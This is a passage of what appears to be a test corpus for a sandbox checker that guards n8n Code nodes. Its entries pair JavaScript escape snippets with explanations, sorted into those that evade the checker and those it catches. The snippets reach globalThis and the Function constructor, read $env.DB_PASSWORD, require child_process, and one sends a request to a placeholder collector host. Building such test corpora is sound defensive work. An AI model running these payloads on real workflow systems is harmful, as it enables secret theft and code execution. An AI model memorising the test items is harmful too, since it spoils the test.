    "cls": "key-canonicalization",
    "code": "const o = { '1e+21': globalThis };\nconst G = o[1e21];\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "A computed key that is a literal number that is not an array index (1.5, 1e21, NaN) or null is not turned into the property key the engine uses ('1.5', '1e+21', 'NaN', 'null'): a write under one spelling and a read under the other are taken for different properties, and the value read is clean. Here: 1e21 is the key '1e+21'; $env.DB_PASSWORD is read."
  },
  {
    "id": "key/NaN",
    "cls": "key-canonicalization",
    "code": "const o = { NaN: globalThis };\nconst G = o[NaN];\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "A computed key that is a literal number that is not an array index (1.5, 1e21, NaN) or null is not turned into the property key the engine uses ('1.5', '1e+21', 'NaN', 'null'): a write under one spelling and a read under the other are taken for different properties, and the value read is clean. Here: o[NaN] is o.NaN; helpers.httpRequest is called."
  },
  {
    "id": "key/null-F",
    "cls": "key-canonicalization",
    "code": "const o = { null: (() => 0).constructor };\nconst G = o[null]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "A computed key that is a literal number that is not an array index (1.5, 1e21, NaN) or null is not turned into the property key the engine uses ('1.5', '1e+21', 'NaN', 'null'): a write under one spelling and a read under the other are taken for different properties, and the value read is clean. Here: o[null] is o.null, the Function constructor, which compiles `return globalThis`."
  },
  {
    "id": "key/null-write-dot-read",
    "cls": "key-canonicalization",
    "code": "const o = {};\no[null] = globalThis;\nconst G = o.null;\ntry { G.require('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "A computed key that is a literal number that is not an array index (1.5, 1e21, NaN) or null is not turned into the property key the engine uses ('1.5', '1e+21', 'NaN', 'null'): a write under one spelling and a read under the other are taken for different properties, and the value read is clean. Here: written as o[null], read as o.null; require is called."
  }
];

export const ROUND15_CAUGHT: Round15Entry[] = [
  {
    "id": "caught/alias",
    "cls": "direct",
    "code": "const g = this; const o = {a: g}; return [{json: o}];",
    "why": "the global object stored in a literal and returned"
  },
  {
    "id": "caught/sym-replace",
    "cls": "symbol-protocol",
    "code": "const G = 'a'.replace({ [Symbol.replace](s, r) { return r; } }, globalThis);\nreturn [{ json: { g: G } }];",
    "why": "String.prototype.replace hands the replacement to the pattern's own Symbol.replace and returns its result"
  },
  {
    "id": "caught/sym-match",
    "cls": "symbol-protocol",
    "code": "const o = { g: globalThis, [Symbol.match]() { return this.g; } };\nconst G = 'a'.match(o);\nreturn [{ json: { g: G } }];",
    "why": "String.prototype.match returns what the pattern's own Symbol.match returns"
  },
  {
    "id": "caught/sym-split",
    "cls": "symbol-protocol",
    "code": "const o = { g: globalThis, [Symbol.split]() { return this.g; } };\nconst G = 'a'.split(o);\nreturn [{ json: { g: G } }];",
    "why": "String.prototype.split returns what the separator's own Symbol.split returns"
  },
  {
    "id": "caught/sym-search",
    "cls": "symbol-protocol",
    "code": "const o = { g: globalThis, [Symbol.search]() { return this.g; } };\nconst G = 'a'.search(o);\nreturn [{ json: { g: G } }];",
    "why": "String.prototype.search returns what the pattern's own Symbol.search returns"
  },
  {
    "id": "caught/toLocaleString",
    "cls": "builtin-calls-method",
    "code": "const o = { toString: () => globalThis };\nconst G = o.toLocaleString();\nreturn [{ json: { g: G } }];",
    "why": "Object.prototype.toLocaleString returns what this.toString() returns"
  },
  {
    "id": "caught/promise-finally",
    "cls": "builtin-calls-method",
    "code": "const G = Promise.prototype.finally.call({ then: () => globalThis }, () => 0);\nreturn [{ json: { g: G } }];",
    "why": "Promise.prototype.finally returns what this.then() returns"
  },
  {
    "id": "caught/promise-catch",
    "cls": "builtin-calls-method",
    "code": "const G = Promise.prototype.catch.call({ then: () => globalThis });\nreturn [{ json: { g: G } }];",
    "why": "Promise.prototype.catch returns what this.then() returns"
  },
  {
    "id": "caught/array-toString",
    "cls": "builtin-calls-method",
    "code": "const G = Array.prototype.toString.call({ join: () => globalThis });\nreturn [{ json: { g: G } }];",
    "why": "Array.prototype.toString returns what this.join() returns"
  },
  {
    "id": "caught/regexp-match-exec",
    "cls": "regexp-exec",
    "code": "const G = RegExp.prototype[Symbol.match].call({ exec: () => globalThis, flags: '' }, 'a');\nreturn [{ json: { g: G } }];",
    "why": "RegExp.prototype[Symbol.match] (non-global) returns exec's result"
  },
  {
    "id": "caught/with-constructor",
    "cls": "sloppy-scope",
    "code": "let G;\nwith (() => 0) { G = constructor('return globalThis')(); }\nreturn [{ json: { g: G } }];",
    "why": "with (fn) makes `constructor` the Function constructor (reported: no rule for with)"
  },
  {
    "id": "caught/arguments-alias",
    "cls": "mapped-arguments",
    "code": "function f(a) { arguments[0] = globalThis; return a; }\nconst G = f(1);\nreturn [{ json: { g: G } }];",
    "why": "arguments[0] = X in a sloppy function changes its parameter"
  },
  {
    "id": "caught/gen-next-arg",
    "cls": "generator",
    "code": "function* g() { const x = yield 1; return x; }\nconst it = g(); it.next();\nconst G = it.next(globalThis).value;\nreturn [{ json: { g: G } }];",
    "why": "next(v) is the value of the yield expression"
  },
  {
    "id": "caught/item-env",
    "cls": "n8n-data-proxy",
    "code": "return [{ json: { e: $item(0).$env.DB_PASSWORD } }];",
    "why": "$item(0) is a data proxy with its own $env"
  },
  {
    "id": "caught/error-cause",
    "cls": "builtin-stores",
    "code": "const G = new Error('x', { cause: globalThis }).cause;\nreturn [{ json: { g: G } }];",
    "why": "new Error(m, { cause }) keeps cause"
  },
  {
    "id": "caught/weakref",
    "cls": "builtin-stores",
    "code": "const G = new WeakRef(globalThis).deref();\nreturn [{ json: { g: G } }];",
    "why": "WeakRef.prototype.deref gives the target (reported: no summary)"
  },
  {
    "id": "caught/promise-any",
    "cls": "builtin-stores",
    "code": "const G = await Promise.any([Promise.reject(globalThis)]).catch((e) => e.errors[0]);\nreturn [{ json: { g: G } }];",
    "why": "Promise.any rejects with an AggregateError of the reasons"
  },
  {
    "id": "caught/toSpliced",
    "cls": "builtin-stores",
    "code": "const G = [1].toSpliced(0, 0, globalThis)[0];\nreturn [{ json: { g: G } }];",
    "why": "toSpliced inserts its items"
  },
  {
    "id": "caught/proxy-of-global",
    "cls": "proxy",
    "code": "return [{ json: { g: new Proxy(globalThis, {}) } }];",
    "why": "a Proxy of the global object returned: every key walks through to the global"
  },
  {
    "id": "caught/fn-arguments-prop",
    "cls": "mapped-arguments",
    "code": "function f(a) { return g(); }\nfunction g() { return f.arguments[0]; }\nconst G = f(globalThis);\nreturn [{ json: { g: G } }];",
    "why": "f.arguments read from a nested call gives f's live arguments"
  },
  {
    "id": "caught/promise-resolve-call-C",
    "cls": "species",
    "code": "function C(ex) { ex(() => {}, () => {}); return globalThis; }\nconst G = Promise.resolve.call(C, 1);\nreturn [{ json: { g: G } }];",
    "why": "Promise.resolve.call(C) returns what new C returns"
  },
  {
    "id": "caught/promise-species-then",
    "cls": "species",
    "code": "function C(ex) { ex(() => {}, () => {}); return globalThis; }\nclass P extends Promise { static get [Symbol.species]() { return C; } }\nconst G = P.resolve(1).then();\nreturn [{ json: { g: G } }];",
    "why": "Promise subclass species: then() returns what the species constructor returns"
  },
  {
    "id": "caught/array-species-map",
    "cls": "species",
    "code": "function C() { return globalThis; }\nclass A extends Array { static get [Symbol.species]() { return C; } }\nconst G = A.of(1).map((x) => x);\nreturn [{ json: { g: G } }];",
    "why": "Array subclass species: map() returns what the species constructor returns"
  },
  {
    "id": "caught/array-of-call",
    "cls": "species",
    "code": "const G = Array.of.call(function () { return globalThis; }, 1);\nreturn [{ json: { g: G } }];",
    "why": "Array.of.call(C) returns what new C returns"
  },
  {
    "id": "caught/array-from-call",
    "cls": "species",
    "code": "const G = Array.from.call(function () { return globalThis; }, [1]);\nreturn [{ json: { g: G } }];",
    "why": "Array.from.call(C) returns what new C returns"
  },
  {
    "id": "caught/reverse-call",
    "cls": "array-generic",
    "code": "const G = Array.prototype.reverse.call(globalThis);\nreturn [{ json: { g: G } }];",
    "why": "Array.prototype.reverse.call(x) returns x"
  },
  {
    "id": "caught/pop-arraylike",
    "cls": "array-generic",
    "code": "const G = Array.prototype.pop.call({ 0: globalThis, length: 1 });\nreturn [{ json: { g: G } }];",
    "why": "pop on an array-like data property"
  },
  {
    "id": "caught/data-json-items",
    "cls": "n8n-data-proxy",
    "code": "$json.x = globalThis;\nconst G = items[0].json.x;\nreturn [{ json: { g: G } }];",
    "why": "$json is items[0].json: a write through one is read through the other"
  },
  {
    "id": "caught/data-items-input",
    "cls": "n8n-data-proxy",
    "code": "items.push(globalThis);\nconst G = $input.all().at(-1);\nreturn [{ json: { g: G } }];",
    "why": "$input.all() is items"
  },
  {
    "id": "caught/data-node",
    "cls": "n8n-data-proxy",
    "code": "$input.first().json.x = globalThis;\nconst G = $node.Webhook.json.x;\nreturn [{ json: { g: G } }];",
    "why": "$input.first().json is $node.Webhook.json"
  },
  {
    "id": "caught/data-static",
    "cls": "n8n-data-proxy",
    "code": "$getWorkflowStaticData('global').x = globalThis;\nconst G = $getWorkflowStaticData('global').x;\nreturn [{ json: { g: G } }];",
    "why": "$getWorkflowStaticData gives the same object each call"
  },
  {
    "id": "caught/data-dollar",
    "cls": "n8n-data-proxy",
    "code": "items[1].json.f = (() => 0).constructor;\nconst G = $('Webhook').last().json.f('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "$('Webhook').last() is items[1]"
  },
  {
    "id": "caught/settimeout-args",
    "cls": "host-callback",
    "code": "const G = await new Promise((r) => setTimeout((x) => r(x), 0, globalThis));\nreturn [{ json: { g: G } }];",
    "why": "setTimeout hands its extra arguments to the callback"
  },
  {
    "id": "caught/throw-from-map",
    "cls": "exception-flow",
    "code": "let G;\ntry { [1].map(() => { throw globalThis; }); } catch (e) { G = e; }\nreturn [{ json: { g: G } }];",
    "why": "a value thrown in a map callback reaches the catch"
  },
  {
    "id": "caught/throw-from-tostring",
    "cls": "exception-flow",
    "code": "let G;\ntry { String({ toString() { throw globalThis; } }); } catch (e) { G = e; }\nreturn [{ json: { g: G } }];",
    "why": "a value thrown by toString during String() reaches the catch"
  },
  {
    "id": "caught/match-subclass",
    "cls": "regexp-exec",
    "code": "class Rx extends RegExp { exec() { return globalThis; } }\nconst G = 'a'.match(new Rx('a'));\nreturn [{ json: { g: G } }];",
    "why": "'a'.match of a RegExp subclass returns the subclass exec's result"
  },
  {
    "id": "caught/object-call",
    "cls": "builtin-stores",
    "code": "const G = Object(globalThis);\nreturn [{ json: { g: G } }];",
    "why": "Object(x) is x for an object"
  },
  {
    "id": "caught/set-union",
    "cls": "set-methods",
    "code": "const s = new Set().union({ size: 1, has: () => true, keys: () => [globalThis].values() });\nconst [G] = s;\nreturn [{ json: { g: G } }];",
    "why": "Set.prototype.union iterates the other's keys()",
    "node24": true
  },
  {
    "id": "caught/iter-map-call",
    "cls": "iterator-helpers",
    "code": "const it = Iterator.prototype.map.call({ next: () => ({ value: globalThis, done: false }) }, (x) => x);\nconst G = it.next().value;\nreturn [{ json: { g: G } }];",
    "why": "Iterator.prototype.map over a user next()",
    "node24": true
  },
  {
    "id": "caught/iterator-from",
    "cls": "iterator-helpers",
    "code": "const G = Iterator.from({ next: () => ({ value: globalThis, done: false }) }).next().value;\nreturn [{ json: { g: G } }];",
    "why": "Iterator.from wraps a user next()",
    "node24": true
  },
  {
    "id": "caught/annexb-block-fn",
    "cls": "sloppy-scope",
    "code": "var f = () => 1;\n{ function f() { return globalThis; } }\nconst G = f();\nreturn [{ json: { g: G } }];",
    "why": "Annex B: a function declared in a block is also var-bound, overwriting the outer var"
  },
  {
    "id": "caught/annexb-if-fn",
    "cls": "sloppy-scope",
    "code": "var f = () => 1;\nif (true) function f() { return globalThis; }\nconst G = f();\nreturn [{ json: { g: G } }];",
    "why": "Annex B: a function declaration as an if body"
  },
  {
    "id": "caught/dup-fn-decl",
    "cls": "sloppy-scope",
    "code": "function f() { return 1; }\nfunction f() { return globalThis; }\nconst G = f();\nreturn [{ json: { g: G } }];",
    "why": "the last of two function declarations of one name wins"
  },
  {
    "id": "caught/finally-break",
    "cls": "control-flow",
    "code": "function f() { L: try { return 1; } finally { break L; } return globalThis; }\nconst G = f();\nreturn [{ json: { g: G } }];",
    "why": "break out of finally cancels the try block return"
  },
  {
    "id": "caught/hoisted-after-return",
    "cls": "control-flow",
    "code": "return [{ json: { g: f() } }];\nfunction f() { return globalThis; }",
    "why": "a function declaration after return is hoisted and called"
  },
  {
    "id": "caught/switch-fallthrough",
    "cls": "control-flow",
    "code": "let G = 0;\nswitch (1) { case 1: G = 1; case 2: G = globalThis; }\nreturn [{ json: { g: G } }];",
    "why": "switch fallthrough runs the next case"
  },
  {
    "id": "caught/nullish-assign",
    "cls": "control-flow",
    "code": "let G = null;\nG ??= globalThis;\nreturn [{ json: { g: G } }];",
    "why": "??= assigns"
  },
  {
    "id": "caught/proto-literal",
    "cls": "class",
    "code": "const o = { __proto__: globalThis };\nreturn [{ json: { e: o.$env.DB_PASSWORD } }];",
    "why": "a __proto__: globalThis literal inherits $env"
  },
  {
    "id": "caught/extends-function",
    "cls": "class",
    "code": "class A extends (() => 0).constructor {}\nconst G = new A('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a class extending the Function constructor compiles strings"
  },
  {
    "id": "caught/hasInstance",
    "cls": "class",
    "code": "let G;\nclass C { static [Symbol.hasInstance](v) { G = v; return true; } }\nvoid (globalThis instanceof C);\nreturn [{ json: { g: G } }];",
    "why": "instanceof hands its left side to a static Symbol.hasInstance"
  },
  {
    "id": "caught/set-isSubsetOf-has",
    "cls": "set-methods",
    "code": "let G;\nnew Set([globalThis]).isSubsetOf({ size: 1, has(v) { G = v; return true; }, keys() { return [].values(); } });\nreturn [{ json: { g: G } }];",
    "why": "isSubsetOf hands this set's elements to the other's has()",
    "node24": true
  },
  {
    "id": "caught/promise-all-static-resolve",
    "cls": "species",
    "code": "let G;\nclass P extends Promise { static resolve(v) { G = v; return super.resolve(v); } }\nawait P.all([globalThis]);\nreturn [{ json: { g: G } }];",
    "why": "Promise.all calls the subclass static resolve with each element"
  },
  {
    "id": "caught/object-create-descs",
    "cls": "builtin-stores",
    "code": "const G = Object.create({}, { x: { value: globalThis } }).x;\nreturn [{ json: { g: G } }];",
    "why": "Object.create's property descriptors"
  },
  {
    "id": "caught/assign-setter",
    "cls": "setter",
    "code": "let G;\nObject.assign({ set x(v) { G = v; } }, { x: globalThis });\nreturn [{ json: { g: G } }];",
    "why": "Object.assign runs the target setter"
  },
  {
    "id": "caught/private-field",
    "cls": "class",
    "code": "class A { #x = globalThis; get() { return this.#x; } }\nconst G = new A().get();\nreturn [{ json: { g: G } }];",
    "why": "a private field holding the global object"
  },
  {
    "id": "caught/replaceAll-sym",
    "cls": "symbol-protocol",
    "code": "const G = 'a'.replaceAll({ [Symbol.replace]: (s, r) => r }, globalThis);\nreturn [{ json: { g: G } }];",
    "why": "replaceAll hands the replacement to the pattern's own Symbol.replace"
  },
  {
    "id": "caught/matchAll-sym",
    "cls": "symbol-protocol",
    "code": "const G = 'a'.matchAll({ [Symbol.matchAll]: () => globalThis });\nreturn [{ json: { g: G } }];",
    "why": "matchAll returns what the pattern's own Symbol.matchAll returns"
  },
  {
    "id": "caught/aggregate-errors",
    "cls": "builtin-stores",
    "code": "const G = new AggregateError([globalThis]).errors[0];\nreturn [{ json: { g: G } }];",
    "why": "AggregateError keeps its errors"
  },
  {
    "id": "caught/for-of-member-setter",
    "cls": "setter",
    "code": "let G;\nconst o = { set x(v) { G = v; } };\nfor (o.x of [globalThis]);\nreturn [{ json: { g: G } }];",
    "why": "for (o.x of ...) runs the setter"
  },
  {
    "id": "caught/this-map-cb",
    "cls": "sloppy-this",
    "code": "const [G] = [1].map(function () { return this; });\nreturn [{ json: { g: G } }];",
    "why": "sloppy map callback: this is the global object"
  },
  {
    "id": "caught/this-then-cb",
    "cls": "sloppy-this",
    "code": "const G = await Promise.resolve().then(function () { return this; });\nreturn [{ json: { g: G } }];",
    "why": "sloppy then callback: this is the global object"
  },
  {
    "id": "caught/this-executor",
    "cls": "sloppy-this",
    "code": "const G = await new Promise(function (r) { r(this); });\nreturn [{ json: { g: G } }];",
    "why": "sloppy Promise executor: this is the global object"
  },
  {
    "id": "caught/this-tag",
    "cls": "sloppy-this",
    "code": "function t() { return this; }\nconst G = t``;\nreturn [{ json: { g: G } }];",
    "why": "sloppy tag function: this is the global object"
  },
  {
    "id": "caught/this-default-param",
    "cls": "sloppy-this",
    "code": "function f(a = this) { return a; }\nconst G = f();\nreturn [{ json: { g: G } }];",
    "why": "this in a default parameter of a plain call"
  },
  {
    "id": "caught/this-replace-cb",
    "cls": "sloppy-this",
    "code": "let G;\n'a'.replace('a', function () { G = this; return ''; });\nreturn [{ json: { g: G } }];",
    "why": "sloppy replace callback"
  },
  {
    "id": "caught/this-array-from",
    "cls": "sloppy-this",
    "code": "const [G] = Array.from([1], function () { return this; });\nreturn [{ json: { g: G } }];",
    "why": "sloppy Array.from mapper"
  },
  {
    "id": "caught/this-getter-on-proto-none",
    "cls": "sloppy-this",
    "code": "function f() { return this; }\nconst o = { f };\nconst { f: g } = o;\nconst G = g();\nreturn [{ json: { g: G } }];",
    "why": "a method destructured off its object and called plainly"
  },
  {
    "id": "caught/species-instance-ctor",
    "cls": "species",
    "code": "const a = [1];\na.constructor = { [Symbol.species]: function () { return globalThis; } };\nconst G = a.map((x) => x);\nreturn [{ json: { g: G } }];",
    "why": "an array's own constructor property with Symbol.species"
  },
  {
    "id": "caught/withResolvers-call",
    "cls": "species",
    "code": "const G = Promise.withResolvers.call(function (ex) { ex(() => {}, () => {}); return globalThis; }).promise;\nreturn [{ json: { g: G } }];",
    "why": "Promise.withResolvers.call(C).promise is what new C returns",
    "node24": true
  },
  {
    "id": "caught/promise-all-call",
    "cls": "species",
    "code": "const G = Promise.all.call(function (ex) { ex(() => {}, () => {}); return globalThis; }, []);\nreturn [{ json: { g: G } }];",
    "why": "Promise.all.call(C) returns what new C returns"
  },
  {
    "id": "caught/promise-try",
    "cls": "iterator-helpers",
    "code": "const G = await Promise.try((x) => x, globalThis);\nreturn [{ json: { g: G } }];",
    "why": "Promise.try hands its arguments to the callback",
    "node24": true
  },
  {
    "id": "caught/map-ctor-keys",
    "cls": "builtin-stores",
    "code": "const [[G]] = new Map([[globalThis, 1]]);\nreturn [{ json: { g: G } }];",
    "why": "Map keys from the constructor"
  },
  {
    "id": "caught/map-set-keys",
    "cls": "builtin-stores",
    "code": "const G = new Map().set(globalThis, 1).keys().next().value;\nreturn [{ json: { g: G } }];",
    "why": "Map keys from set()"
  },
  {
    "id": "caught/map-forEach-key",
    "cls": "builtin-stores",
    "code": "let G;\nnew Map([[globalThis, 1]]).forEach((v, k) => { G = k; });\nreturn [{ json: { g: G } }];",
    "why": "Map forEach's key argument"
  },
  {
    "id": "caught/yield-star-return",
    "cls": "generator",
    "code": "function* inner() { yield 0; return globalThis; }\nfunction* outer() { const r = yield* inner(); yield r; }\nconst [, G] = outer();\nreturn [{ json: { g: G } }];",
    "why": "yield* evaluates to the inner generator's return value"
  },
  {
    "id": "caught/fromAsync",
    "cls": "iterator-helpers",
    "code": "const [G] = await Array.fromAsync([1], () => globalThis);\nreturn [{ json: { g: G } }];",
    "why": "Array.fromAsync's mapper result",
    "node24": true
  },
  {
    "id": "caught/getter-values",
    "cls": "builtin-stores",
    "code": "const [G] = Object.values({ get a() { return globalThis; } });\nreturn [{ json: { g: G } }];",
    "why": "Object.values runs a named getter"
  },
  {
    "id": "caught/getter-spread",
    "cls": "builtin-stores",
    "code": "const G = { ...{ get a() { return globalThis; } } }.a;\nreturn [{ json: { g: G } }];",
    "why": "object spread runs a named getter"
  },
  {
    "id": "caught/getter-error-cause",
    "cls": "builtin-stores",
    "code": "const G = new Error('x', { get cause() { return globalThis; } }).cause;\nreturn [{ json: { g: G } }];",
    "why": "the Error constructor reads options.cause through a getter"
  },
  {
    "id": "caught/getter-create-desc",
    "cls": "builtin-stores",
    "code": "const G = Object.create({}, { x: { get value() { return globalThis; } } }).x;\nreturn [{ json: { g: G } }];",
    "why": "Object.create's descriptor read through a value getter"
  },
  {
    "id": "caught/getter-fromEntries",
    "cls": "builtin-stores",
    "code": "const G = Object.fromEntries([{ 0: 'a', get 1() { return globalThis; } }]).a;\nreturn [{ json: { g: G } }];",
    "why": "Object.fromEntries reads an entry through a getter"
  },
  {
    "id": "caught/json-toJSON-replacer",
    "cls": "json",
    "code": "let G;\nJSON.stringify({ a: { toJSON: () => globalThis } }, (k, v) => { if (k === 'a') { G = v; return 1; } return v; });\nreturn [{ json: { g: G } }];",
    "why": "JSON.stringify hands toJSON's result to the replacer"
  },
  {
    "id": "caught/json-getter-replacer",
    "cls": "json",
    "code": "let G;\nJSON.stringify({ get a() { return globalThis; } }, (k, v) => { if (k === 'a') { G = v; return 1; } return v; });\nreturn [{ json: { g: G } }];",
    "why": "JSON.stringify hands a getter value to the replacer"
  },
  {
    "id": "caught/bind-args",
    "cls": "closure",
    "code": "const f = ((a) => a).bind(null, globalThis);\nconst G = f();\nreturn [{ json: { g: G } }];",
    "why": "bound arguments"
  },
  {
    "id": "caught/super-literal",
    "cls": "class",
    "code": "const p = { x: globalThis };\nconst o = { __proto__: p, m() { return super.x; } };\nconst G = o.m();\nreturn [{ json: { g: G } }];",
    "why": "super.x in an object literal method reads the __proto__ object"
  },
  {
    "id": "caught/throw-getter-pop",
    "cls": "exception-flow",
    "code": "let G;\ntry { Array.prototype.pop.call({ get 0() { throw globalThis; }, length: 1 }); } catch (e) { G = e; }\nreturn [{ json: { g: G } }];",
    "why": "a value thrown by an index getter during pop reaches the catch"
  },
  {
    "id": "caught/throw-toISOString",
    "cls": "exception-flow",
    "code": "let G;\ntry { new Date().toJSON.call({ toISOString() { throw globalThis; } }); } catch (e) { G = e; }\nreturn [{ json: { g: G } }];",
    "why": "a value thrown by toISOString inside Date.prototype.toJSON reaches the catch"
  },
  {
    "id": "caught/iter-next-value-getter",
    "cls": "iterator",
    "code": "const it = { [Symbol.iterator]() { return { next() { return { done: false, get value() { return globalThis; } }; } }; } };\nconst [G] = it;\nreturn [{ json: { g: G } }];",
    "why": "destructuring reads next()'s value getter"
  },
  {
    "id": "caught/set-from-user-iter",
    "cls": "builtin-stores",
    "code": "const it = { *[Symbol.iterator]() { yield globalThis; } };\nconst [G] = new Set(it);\nreturn [{ json: { g: G } }];",
    "why": "new Set of a user iterable"
  },
  {
    "id": "caught/num-getter-direct-str",
    "cls": "index-accessor",
    "code": "const o = { get 0() { return globalThis; } };\nconst G = o['0'];\nreturn [{ json: { g: G } }];",
    "why": "o['0'] with get 0() (the string spelling is followed)"
  },
  {
    "id": "caught/named-getter-at",
    "cls": "index-accessor",
    "code": "const o = { get x() { return globalThis; } };\nconst G = o.x;\nreturn [{ json: { g: G } }];",
    "why": "a named getter read directly"
  },
  {
    "id": "caught/implicit-global-read",
    "cls": "sloppy-scope",
    "code": "globalThis.zq = (() => 0).constructor;\nconst G = zq('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a property of globalThis read as an undeclared identifier"
  },
  {
    "id": "caught/implicit-global-write",
    "cls": "sloppy-scope",
    "code": "zq = (() => 0).constructor;\nconst G = globalThis.zq('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "an assignment to an undeclared identifier writes the global object"
  },
  {
    "id": "caught/implicit-global-this-write",
    "cls": "sloppy-scope",
    "code": "this.zq = globalThis;\nconst G = zq;\nreturn [{ json: { g: G } }];",
    "why": "this.x = ... then reading x"
  },
  {
    "id": "caught/implicit-global-assign",
    "cls": "sloppy-scope",
    "code": "Object.assign(globalThis, { zq: globalThis });\nconst G = zq;\nreturn [{ json: { g: G } }];",
    "why": "Object.assign(globalThis, ...) then reading the identifier"
  },
  {
    "id": "caught/apply-arraylike-data",
    "cls": "array-generic",
    "code": "const G = ((a) => a).apply(null, { 0: globalThis, length: 1 });\nreturn [{ json: { g: G } }];",
    "why": "apply's argument list as an array-like data property"
  },
  {
    "id": "caught/getter-computed-0",
    "cls": "index-accessor",
    "code": "const o = { get [0]() { return globalThis; } };\nconst G = o[0];\nreturn [{ json: { g: G } }];",
    "why": "get [0]() read as o[0]"
  },
  {
    "id": "caught/map-entry-getter",
    "cls": "builtin-stores",
    "code": "const m = new Map([{ get 0() { return globalThis; }, 1: 1 }]);\nconst [[G]] = m;\nreturn [{ json: { g: G } }];",
    "why": "new Map reads an entry key through a get 0() getter"
  },
  {
    "id": "caught/key-str-write-num-read",
    "cls": "key-canonicalization",
    "code": "const o = {};\no['0'] = globalThis;\nconst G = o[0];\nreturn [{ json: { g: G } }];",
    "why": "o['0'] written, o[0] read"
  },
  {
    "id": "caught/key-num-write-str-read",
    "cls": "key-canonicalization",
    "code": "const o = {};\no[0] = globalThis;\nconst G = o['0'];\nreturn [{ json: { g: G } }];",
    "why": "o[0] written, o['0'] read"
  },
  {
    "id": "caught/key-1e0",
    "cls": "key-canonicalization",
    "code": "const o = { 1: globalThis };\nconst G = o[1e0];\nreturn [{ json: { g: G } }];",
    "why": "o[1e0] is o[1]"
  },
  {
    "id": "caught/key-negzero",
    "cls": "key-canonicalization",
    "code": "const o = { 0: globalThis };\nconst G = o[-0];\nreturn [{ json: { g: G } }];",
    "why": "o[-0] is o[0]"
  },
  {
    "id": "caught/key-hex",
    "cls": "key-canonicalization",
    "code": "const o = { 0x10: globalThis };\nconst G = o['16'];\nreturn [{ json: { g: G } }];",
    "why": "{ 0x10: x } is key '16'"
  },
  {
    "id": "caught/key-bigint",
    "cls": "key-canonicalization",
    "code": "const o = { 5n: globalThis };\nconst G = o['5'];\nreturn [{ json: { g: G } }];",
    "why": "{ 5n: x } is key '5'"
  },
  {
    "id": "caught/key-arr-lit",
    "cls": "key-canonicalization",
    "code": "const a = [globalThis];\nconst G = a['0'];\nreturn [{ json: { g: G } }];",
    "why": "a['0'] of an array literal"
  },
  {
    "id": "caught/key-bool",
    "cls": "key-canonicalization",
    "code": "const o = { true: globalThis };\nconst G = o[true];\nreturn [{ json: { g: G } }];",
    "why": "o[true] is o.true"
  },
  {
    "id": "caught/key-undefined",
    "cls": "key-canonicalization",
    "code": "const o = { undefined: globalThis };\nconst G = o[void 0];\nreturn [{ json: { g: G } }];",
    "why": "o[void 0] is o.undefined"
  },
  {
    "id": "caught/spread-num-getter",
    "cls": "index-accessor",
    "code": "const o = { ...{ get 0() { return globalThis; } } };\nconst G = o[0];\nreturn [{ json: { g: G } }];",
    "why": "spread copies the value of get 0()"
  },
  {
    "id": "caught/key-neg1",
    "cls": "key-canonicalization",
    "code": "const o = { '-1': globalThis };\nconst G = o[-1];\nreturn [{ json: { g: G } }];",
    "why": "o[-1] is o['-1'] (reported as unknown)"
  },
  {
    "id": "caught/key-inf",
    "cls": "key-canonicalization",
    "code": "const o = { Infinity: globalThis };\nconst G = o[1 / 0];\nreturn [{ json: { g: G } }];",
    "why": "o[1 / 0] is o.Infinity (reported as unknown)"
  },
  {
    "id": "caught/key-arr-neg",
    "cls": "key-canonicalization",
    "code": "const a = [];\na['-1'] = globalThis;\nconst G = a[-1];\nreturn [{ json: { g: G } }];",
    "why": "a['-1'] written, a[-1] read"
  },
  {
    "id": "caught/key-arr-at-neg",
    "cls": "key-canonicalization",
    "code": "const a = [];\na[-1] = globalThis;\nconst G = a['-1'];\nreturn [{ json: { g: G } }];",
    "why": "a[-1] written, a['-1'] read"
  },
  {
    "id": "caught/key-0.1",
    "cls": "key-canonicalization",
    "code": "const o = { '0.30000000000000004': globalThis };\nconst G = o[0.1 + 0.2];\nreturn [{ json: { g: G } }];",
    "why": "o[0.1 + 0.2] (reported as unknown)"
  },
  {
    "id": "caught/runtime-key-arr",
    "cls": "runtime-key",
    "code": "const k = ['constructor'];\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (arr) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-obj-tostring",
    "cls": "runtime-key",
    "code": "const k = { toString: () => 'constructor' };\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (obj-tostring) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-template",
    "cls": "runtime-key",
    "code": "const k = `con${'structor'}`;\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (template) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-concat",
    "cls": "runtime-key",
    "code": "const k = 'con' + 'structor';\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (concat) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-lower",
    "cls": "runtime-key",
    "code": "const k = 'CONSTRUCTOR'.toLowerCase();\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (lower) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-reverse",
    "cls": "runtime-key",
    "code": "const k = 'rotcurtsnoc'.split('').reverse().join('');\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (reverse) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-json",
    "cls": "runtime-key",
    "code": "const k = JSON.parse('\"constructor\"');\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
    "why": "a key built at run time (json) that is 'constructor': reported as a key known only at run time"
  },
  {
    "id": "caught/runtime-key-fnname",
    "cls": "runtime-key",
    "code": "const k = (function constructor() {}).name;\nconst G = (() => 0)[k]('return globalThis')();\nreturn [{ json: { g: G } }];",
